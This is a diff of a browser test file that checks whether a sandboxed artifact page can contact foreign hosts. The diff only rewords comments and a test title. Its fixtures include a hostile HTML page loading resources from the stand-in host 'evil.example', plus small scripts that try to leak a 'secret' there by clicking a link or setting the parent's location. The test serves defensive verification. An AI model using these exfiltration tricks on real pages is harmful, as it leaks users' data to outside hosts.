@@ -5,7 +5,7 @@ import { leave, openSite, type Site } from './support/site.ts';
 
 const FOREIGN = 'https://evil.example';
 
-/** All that a page may try to reach others with, and where it tells what has become of it. */
+/** Every way in which a page may try to reach other hosts, and where it reports the result. */
 const HOSTILE = `<!doctype html>
 <link rel="stylesheet" href="${FOREIGN}/a.css">
 <link rel="preload" as="image" href="${FOREIGN}/b.png">
@@ -47,17 +47,17 @@ describe('an artifact', () => {
   });
   after(() => site.close());
 
-  /** A page with an artifact that the reader has opened, and what has got out of it. */
+  /** A page with an artifact that the user has opened, and the requests that got out of it. */
   async function opened(content: string): Promise<{
     readonly page: Page;
     readonly inside: FrameLocator;
     readonly out: string[];
-    /** Resolves when the browser says that it has stopped a frame from leaving. */
+    /** Resolves when the browser reports that it has stopped a frame from navigating. */
     readonly blocked: Promise<unknown>;
   }> {
     const page = await site.visit('/');
     const out: string[] = [];
-    // What a policy stops never gets here.
+    // Requests that a policy stops never get here.
     await page.context().route(`${FOREIGN}/**`, (route) => {
       out.push(route.request().url());
       return route.abort();
@@ -107,7 +107,7 @@ describe('an artifact', () => {
     ['by a link', `Object.assign(document.createElement('a'), { href: '${FOREIGN}/?secret' }).click()`],
     ['over its parent', `parent.location = '${FOREIGN}/?secret'`],
   ] as const) {
-    it(`cannot carry anything away with itself, ${name}`, async () => {
+    it(`cannot send any data by navigating, ${name}`, async () => {
       const { page, out, blocked } = await opened(
         `<p>x</p><script>parent.postMessage('here', '*'); try { ${script} } catch {}</script>`,
       );
